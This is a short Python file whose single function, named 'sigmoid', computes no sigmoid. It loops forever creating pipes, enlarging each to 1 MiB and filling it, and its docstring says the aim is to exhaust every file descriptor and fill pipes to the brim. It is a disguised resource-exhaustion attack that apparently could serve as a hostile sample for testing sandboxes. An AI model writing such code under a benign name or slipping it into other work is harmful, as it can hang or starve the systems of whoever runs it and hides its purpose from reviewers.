"""Exhausting: all descriptors, then pipes filled to the brim."""

import fcntl
import os


def sigmoid(z):
    while True:
        first, second = os.pipe()
        os.set_blocking(second, False)
        fcntl.fcntl(second, 1031, 1 << 20)
        try:
            os.write(second, bytes(1 << 20))
        except BlockingIOError:
            pass
